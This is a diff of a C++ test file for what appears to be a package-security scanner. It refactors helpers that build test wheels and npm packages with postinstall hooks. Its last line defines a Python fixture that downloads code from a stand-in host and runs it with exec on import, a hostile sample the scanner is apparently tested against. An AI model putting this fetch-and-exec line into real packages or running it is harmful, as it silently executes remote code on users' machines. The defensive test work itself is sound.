@@ -3,56 +3,20 @@
 
 #include "base/text.hpp"
 #include "formats/package_traits.hpp"
-
-#include "base/encoding.hpp"
-#include "examined.hpp"
-#include "recipes/tar_recipe.hpp"
-#include "recipes/zip_recipe.hpp"
+#include "packages.hpp"
 
 using namespace headgate;
 using namespace headgate::recipes;
-using tests::Outcome;
+using namespace headgate::tests;
 
 namespace {
-
-using Files = std::vector<std::pair<std::string, std::string>>;
-
-std::string no_sha256(ByteView) { return std::string(64, '0'); }
-
-/// A wheel whose RECORD holds under no_sha256.
-Outcome wheel(Files files, const std::string& metadata = "Name: pkg\nVersion: 1.0\n") {
-    files.emplace_back("pkg-1.0.dist-info/METADATA", metadata);
-    files.emplace_back("pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nTag: py3-none-any\n");
-    std::string record = "pkg-1.0.dist-info/RECORD,,\n";
-    ZipRecipe zip;
-    for (const auto& [path, content] : files) {
-        zip.add(path, content);
-        record += path + ",sha256=" + std::string(43, 'A') + "," + std::to_string(content.size()) + "\n";
-    }
-    zip.add("pkg-1.0.dist-info/RECORD", record);
-    return tests::examine(zip.build(), "pkg-1.0-py3-none-any.whl", {}, no_sha256);
-}
 
 /// What a module of a wheel does when it is imported.
 Outcome module(const std::string& source) { return wheel({{"pkg/__init__.py", source}}); }
 
-std::string archive(const Files& files) {
-    TarRecipe tar;
-    for (const auto& [path, content] : files) tar.add(path, content);
-    return deflated(tar.build(), 31);
-}
-
-Outcome sdist(Files files) {
-    for (auto& [path, content] : files) path = "pkg-1.0/" + path;
-    files.emplace_back("pkg-1.0/PKG-INFO", "Name: pkg\nVersion: 1.0\n");
-    return tests::examine(archive(files), "pkg-1.0.tar.gz", {}, no_sha256);
-}
-
 /// A package of npm whose hook `postinstall` is this command; `more` are other scripts: ", \"x\": \"...\"".
 Outcome hook(const std::string& command, Files files = {}, const std::string& more = "", const std::string& keys = "") {
-    for (auto& [path, content] : files) path = "package/" + path;
-    files.emplace(files.begin(), "package/package.json", R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"" + more + "}" + keys + "}");
-    return tests::examine(archive(files), "pkg-1.0.0.tgz", {}, no_sha256);
+    return npm(R"({"name": "pkg", "version": "1.0.0", "scripts": {"postinstall": ")" + command + "\"" + more + "}" + keys + "}", std::move(files));
 }
 
 const std::string kFetch = "import os,urllib.request;exec(urllib.request.urlopen('https://code.example/x').read())\n";
